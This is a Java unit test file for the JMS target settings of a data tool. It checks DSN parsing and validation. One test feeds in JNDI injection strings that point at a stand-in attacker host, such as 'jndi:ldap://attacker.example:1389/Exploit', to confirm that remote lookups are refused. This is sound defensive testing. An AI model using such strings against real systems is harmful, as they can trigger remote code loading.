package dev.syngen.io.jms;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.syngen.core.problem.Problems;
import dev.syngen.core.sink.SinkException;
import dev.syngen.core.sink.TargetProfile;
import dev.syngen.io.message.OptionReader;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** The dsn forms of a JMS target: a broker URL, the server's engine, a JNDI name. */
class JmsSettingsTest {
  private static TargetProfile profile(String dsn) {
    return new TargetProfile("j", "j", "jms", dsn, null, Map.of("destination", "syngen.runs"));
  }

  private static JmsSettings read(String dsn) {
    return OptionReader.readValid(profile(dsn), JmsSettings::read);
  }

  @Test
  void embeddedNamesTheServersFactoryAndJndiNamesAnyOther() {
    assertEquals("jms/syngen/ConnectionFactory", read("embedded").jndiName());
    assertEquals("jms/other", read("jndi:jms/other").jndiName());
    assertNull(read("tcp://localhost:61616").jndiName());
  }

  @Test
  void anythingElseIsAProblemNamingTheForms() {
    Problems p = new Problems();
    new JmsSinkFactory().validate(profile("localhost:61616"), p);
    assertEquals(1, p.list().size(), p.list().toString());
    assertEquals("dsn", p.list().get(0).path());
    assertTrue(p.list().get(0).fix().contains("'embedded'"), p.list().get(0).fix());
  }

  @Test
  void aJndiNameWithARemoteSchemeIsRefusedAtValidation() {
    for (String dsn :
        new String[] {
          "jndi:ldap://attacker.example:1389/Exploit",
          "jndi:rmi://attacker.example:1099/x",
          "jndi:iiop://h/x",
          "jndi:dns://h/x",
          "jndi:corbaname:iiop:h#x"
        }) {
      Problems p = new Problems();
      new JmsSinkFactory().validate(profile(dsn), p);
      assertEquals(1, p.list().size(), dsn + ": " + p.list());
      assertEquals("dsn", p.list().get(0).path());
      assertTrue(p.list().get(0).message().contains("outside the server"), p.list().toString());
      assertTrue(p.list().get(0).fix().contains("jndi:jms/"), p.list().get(0).fix());
    }
  }

  @Test
  void localJndiNamesAreAccepted() {
    for (String name : new String[] {"jms/orders", "java:comp/env/jms/orders", "java:global/cf"}) {
      Problems p = new Problems();
      new JmsSinkFactory().validate(profile("jndi:" + name), p);
      assertTrue(p.isEmpty(), name + ": " + p.list());
      assertEquals(name, read("jndi:" + name).jndiName());
    }
  }

  @Test
  void aRemoteNameThatSkippedValidationIsStillNeverLookedUp() {
    JmsSettings s = new JmsSettings("jndi:ldap://h/x", null, null, "q", false, true, true, null);
    assertThrows(SinkException.class, s::jndiName);
  }

  @Test
  void theCommandLineRefusesTheServersEngineSayingWhy() {
    SinkException e =
        assertThrows(SinkException.class, () -> new JmsSinkFactory().open(profile("embedded")));
    assertTrue(e.getMessage().contains("only the server can use"), e.getMessage());
  }
}
